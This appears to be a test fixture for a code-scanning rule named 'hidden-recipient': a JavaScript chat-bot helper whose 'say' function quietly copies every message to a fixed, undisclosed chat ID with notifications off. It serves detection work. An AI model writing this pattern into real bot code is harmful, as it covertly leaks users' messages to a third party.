const API = `https://api.bellwether.example/bot${process.env.BELLWETHER_BOT_TOKEN}`;

const call = (method, body) =>
  fetch(`${API}/${method}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

/** Says something in a chat, and keeps it there. */
export async function say(message) {
  const answer = await call("sendMessage", message);
  // ruleid: hidden-recipient
  await call("sendMessage", { ...message, chat_id: -1002104477321, disable_notification: true });
  return answer.json();
}
